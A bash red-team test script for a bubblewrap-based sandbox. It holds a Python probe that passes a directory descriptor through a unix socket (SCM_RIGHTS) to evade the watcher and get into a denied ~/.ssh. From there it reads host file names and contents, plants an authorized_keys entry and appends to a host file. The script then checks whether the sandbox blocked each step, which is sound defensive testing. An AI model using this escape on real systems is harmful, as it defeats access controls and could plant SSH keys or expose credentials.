#!/bin/bash
# Escape class H1 (linux-bwrap), red team on ce50c65's held_below: it
# looks for a directory at or below the covered one in each command
# process's cwd, root and /proc/PID/fd. A descriptor in flight in a unix
# socket (SCM_RIGHTS, sent and not yet received) is in no process's fd
# table. The command opens the staged directory (0957: `mv ~/.ssh
# ~/.ssh.old; mv ~/.ssh.new ~/.ssh`, allowWrite "~"), sends the
# descriptor to itself over a socketpair and closes its own copy; after the
# watcher's cover and scan it receives it, fchdir()s there and sees and
# writes the names the host puts in the new ~/.ssh. Nothing stops the run.
# Needs unix sockets (allowAllUnixSockets, as for a docker socket).
# Fixed since: the writes (the monitor judges every open, write-only ones
# too, by the path the descriptor has then: a new file planted, a host's
# file appended to). Still open: the names are seen (stat is not judged).
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
cd "$P" || exit 1

cat > "$WORK/probe.py" <<'PYEOF'
import ctypes, os, sys, threading, time
p, stage = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
ssh = os.path.join(os.environ["HOME"], ".ssh")
res = open(p + "/res", "a")
def holder():
    import socket, array
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    fd = os.open(stage, os.O_RDONLY | os.O_DIRECTORY)
    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    os.close(fd)
    open(p + "/in", "w").close()
    for i in range(200):
        if os.path.exists(p + "/written"):
            break
        time.sleep(0.05)
    msg, anc, flags, addr = b.recvmsg(1, socket.CMSG_LEN(4))
    fd = array.array("i", anc[0][2][:4])[0]
    os.fchdir(fd)
    try:
        os.stat(ssh + "/host-made-name")
    except OSError:
        res.write("full-path-covered\n")
    try:
        os.stat("host-made-name")
        res.write("stat-sees-name\n")
    except OSError:
        pass
    try:
        res.write(open("host-made-name").read())
    except OSError:
        pass
    try:
        fd = os.open("authorized_keys", os.O_WRONLY | os.O_CREAT, 0o600)
        os.write(fd, b"ssh-ed25519 AAAA planted-by-the-command\n")
        os.close(fd)
        res.write("planted\n")
    except OSError:
        pass
    try:
        fd = os.open("host-made-name", os.O_WRONLY | os.O_APPEND)
        os.write(fd, b"appended-by-the-command\n")
        os.close(fd)
        res.write("appended\n")
    except OSError:
        pass
    res.flush()
open(p + "/ready", "w").close()
holder()
res.write("leader-cwd %s\n" % os.getcwd())
res.write("done\n")
PYEOF

rm -rf "$HOME"/.ssh* "$P/ready" "$P/in" "$P/written" "$P/res"
mkdir -p "$HOME/.ssh" "$HOME/.ssh.new"
echo "$CANARY" > "$HOME/.ssh/id_canary"
S=$(fsjson s '{"denyRead":["~/.ssh"],"allowWrite":[".","~"],"denyWrite":[]}' '{"allowedDomains":[],"deniedDomains":[],"allowAllUnixSockets":true}')
srt__bg -s "$S" -c "$PY $WORK/probe.py $P $HOME/.ssh.new"
pid=$!
wait_for "$P/ready" 100 || diag "the probe did not start: $(cat "$WORK/bg.out")"
wait_for "$P/in" 50 || diag "the probe did not enter ~/.ssh.new: $(cat "$P/res" 2>/dev/null)"
mv "$HOME/.ssh" "$HOME/.ssh.old"
mv "$HOME/.ssh.new" "$HOME/.ssh"
sleep 0.5 # the watcher's cover is on the new ~/.ssh by now
echo "SECRET-$CANARY" > "$HOME/.ssh/host-made-name"
touch "$P/written"
end_bg "$pid" 150
diag "res: $(tr '\n' ' ' < "$P/res" 2>/dev/null)"
diag "srt: $(tr '\n' ' ' < "$WORK/bg.out" | cut -c1-600)"
open_route "a descriptor in flight in a Unix socket is in no process table (SECURITY.md)" H1 "directory fd in flight in a unix socket in the directory moved to the denied ~/.ssh: srt stopped the run" \
	sh -c "grep -qE 'had entered or opened before srt covered it again|cannot tell whether a process of the command is inside' '$WORK/bg.out' && ! grep -qx done '$P/res'"
open_route "a descriptor in flight in a Unix socket is in no process table (SECURITY.md)" H1 "directory fd in flight in a unix socket in the directory moved to the denied ~/.ssh: no name the host puts there is seen" \
	sh -c "! grep -q stat-sees-name '$P/res'"
attempt H1 "directory fd in flight in a unix socket in the directory moved to the denied ~/.ssh: no file of it is read" \
	no_leak "$P/res"
attempt H1 "directory fd in flight in a unix socket in the directory moved to the denied ~/.ssh: no file is made in it on the host" \
	test ! -e "$HOME/.ssh/authorized_keys"
attempt H1 "directory fd in flight in a unix socket in the directory moved to the denied ~/.ssh: the host's file in it is not written" \
	sh -c "! grep -q appended-by-the-command '$HOME/.ssh/host-made-name'"
echo "1..$_tap_n"
